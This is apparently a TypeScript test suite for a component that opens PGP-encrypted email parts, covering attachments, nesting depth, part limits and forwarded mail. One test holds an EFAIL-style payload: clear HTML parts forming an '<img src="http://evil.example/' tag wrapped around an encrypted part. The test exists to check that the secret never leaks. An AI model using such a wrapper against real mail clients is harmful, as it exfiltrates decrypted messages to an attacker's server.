import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { addresses, signedBy, startOpening } from '../../../test/fixtures/mail/opening-bench.ts';
import {
  encryptedParts,
  mail,
  outerHead,
  pgpMime,
  thunderbirdEntity,
} from '../../../test/fixtures/mail/pgp-mail.ts';

let bench: Awaited<ReturnType<typeof startOpening>>;

before(async () => {
  bench = await startOpening();
});

after(() => bench.end());

test('an attachment encrypted by hand is opened beside the entity, which stays as it was', async () => {
  const poc = await bench.encrypt('int main(void) { return 0; }\n', ...signedBy(addresses.reporter));
  const body = [
    'Content-Type: multipart/mixed; boundary="m"',
    '',
    '--m',
    'Content-Type: text/plain',
    '',
    'The proof is attached.',
    '--m',
    'Content-Type: application/octet-stream; name="poc.c.gpg"',
    'Content-Disposition: attachment; filename="poc.c.gpg"',
    'Content-Transfer-Encoding: base64',
    '',
    (await bench.people.gnupg.run(['--dearmor'], poc)).toString('base64').replace(/.{76}/g, '$&\n'),
    '--m--',
    '',
  ];
  const result = await bench.opened(mail([...outerHead, ...body]));
  assert.deepEqual(result.encryption, { kind: 'none' });
  assert.deepEqual(Buffer.from(result.entity), mail(body));
  const [part] = result.inner;
  assert.equal(result.inner.length, 1);
  assert.equal(part?.fileName, 'poc.c');
  assert.equal(Buffer.from(part?.bytes ?? []).toString(), 'int main(void) { return 0; }\n');
  assert.equal(part?.signature.kind, 'unknown-key');
});

test('Enigmail’s shape, every part encrypted by hand: counts as encrypted, the text is the opened one', async () => {
  const body = [
    'Content-Type: multipart/mixed; boundary="m"',
    '',
    '--m',
    'Content-Type: text/plain; charset=utf-8',
    '',
    (await bench.encrypt('Grüße, siehe Anhang\n')).toString(),
    '--m',
    'Content-Type: application/octet-stream; name="notes.txt.pgp"',
    'Content-Disposition: attachment; filename="notes.txt.pgp"',
    '',
    (await bench.encrypt('notes')).toString(),
    '--m--',
    '',
  ];
  const result = await bench.opened(mail([...outerHead, ...body]));
  assert.equal(result.encryption.kind, 'inline');
  assert.equal(result.text, 'Grüße, siehe Anhang\n');
  assert.deepEqual(
    result.inner.map((part) => part.fileName),
    [undefined, 'notes.txt'],
  );
});

test('EFAIL: an encrypted part between HTML in clear is opened beside it, never within it', async () => {
  const armour = (await bench.encrypt(mail(['Content-Type: text/plain', '', 'the secret', '']))).toString();
  const body = [
    'Content-Type: multipart/mixed; boundary="e"',
    '',
    '--e',
    'Content-Type: text/html',
    '',
    '<img src="http://evil.example/',
    '--e',
    ...encryptedParts(armour),
    '--e',
    'Content-Type: text/html',
    '',
    '">',
    '--e--',
    '',
  ];
  const result = await bench.opened(mail([...outerHead, ...body]));
  assert.deepEqual(result.encryption, { kind: 'none' });
  assert.deepEqual(Buffer.from(result.entity), mail(body));
  assert.doesNotMatch(result.text, /the secret/);
  assert.deepEqual(
    result.inner.map((part) => [part.contentType, Buffer.from(part.bytes).toString().trim()]),
    [['text/plain', 'the secret']],
  );
});

test('more parts encrypted by hand than anybody sends: the first are opened, the others listed', async () => {
  const armour = (await bench.encrypt('same again\n')).toString();
  const part = ['--p', 'Content-Type: application/octet-stream; name="x.asc"', '', armour];
  const parts = Array.from({ length: 25 }, () => part).flat();
  const raw = mail([...outerHead, 'Content-Type: multipart/mixed; boundary="p"', '', ...parts, '--p--', '']);
  const result = await bench.opened(raw);
  assert.equal(result.inner.length, 20);
  assert.deepEqual(
    result.unopened.map((one) => one.reason),
    Array.from({ length: 5 }, () => 'too-many'),
  );
});

test('beside more than a footer of clear text, or an attachment, an encrypted part is no root', async () => {
  const encrypted = ['--f', ...encryptedParts((await bench.encrypt(thunderbirdEntity)).toString())];
  const start = [...outerHead, 'Content-Type: multipart/mixed; boundary="f"', '', ...encrypted, '--f'];
  const long = mail([...start, '', 'a long story in clear\n'.repeat(1_000), '--f--']);
  const file = mail([...start, 'Content-Type: text/plain; name="poc.c"', '', 'int main;', '--f--']);
  for (const raw of [long, file]) {
    const result = await bench.opened(raw);
    assert.deepEqual(result.encryption, { kind: 'none' });
    assert.ok(result.inner.length > 0);
  }
});

test('a patch with mail headers, encrypted by hand, stays the file it is', async () => {
  const patch =
    'From 0123456789 Mon Sep 17 00:00:00 2001\nFrom: A <a@b.example>\nSubject: [PATCH] fix\nContent-Type: text/plain\n\ndiff\n';
  const armour = (await bench.encrypt(patch)).toString();
  const attached = ['Content-Type: multipart/mixed; boundary="p"', '', '--p', '', 'see', '--p'];
  const part = ['Content-Type: text/x-patch; name="0001-fix.patch.asc"', '', armour, '--p--', ''];
  const result = await bench.opened(mail([...outerHead, ...attached, ...part]));
  assert.equal(Buffer.from(result.inner[0]?.bytes ?? []).toString(), patch);
  assert.equal(result.inner[0]?.fileName, '0001-fix.patch');
  const inline = await bench.opened(mail([...outerHead, 'Content-Type: text/plain', '', armour]));
  assert.equal(inline.text, patch);
  assert.equal(inline.head.subject, '...');
});

test('an encrypted mail that is forwarded as an attachment is opened as an inner part', async () => {
  const forwarded = pgpMime(await bench.encrypt('forwarded words\n')).toString();
  const body = ['Content-Type: multipart/mixed; boundary="o"', '', '--o', '', 'see attached', '--o'];
  const raw = mail([...outerHead, ...body, 'Content-Type: message/rfc822', '', forwarded, '--o--', '']);
  const result = await bench.opened(raw);
  assert.equal(Buffer.from(result.inner[0]?.bytes ?? []).toString(), 'forwarded words\n');
  assert.equal(result.text, 'see attached');
});

test('armour in armour is opened to the limit of depth and no further', async () => {
  let data: Buffer = Buffer.from('the kernel of it\n');
  for (let level = 0; level < 3; level += 1) data = await bench.encrypt(data);
  const three = await bench.opened(
    mail([...outerHead, 'Content-Type: text/plain', '', 'x', '', data.toString()]),
  );
  assert.equal(three.encryption.kind, 'inline', 'the outermost is the root');
  assert.equal(Buffer.from(three.inner[0]?.bytes ?? []).toString(), 'the kernel of it\n');
  for (let level = 0; level < 2; level += 1) data = await bench.encrypt(data);
  const five = await bench.opened(mail([...outerHead, 'Content-Type: text/plain', '', data.toString()]));
  assert.equal(five.inner.length, 0);
  assert.equal(five.unopened[0]?.reason, 'too-deep');
});
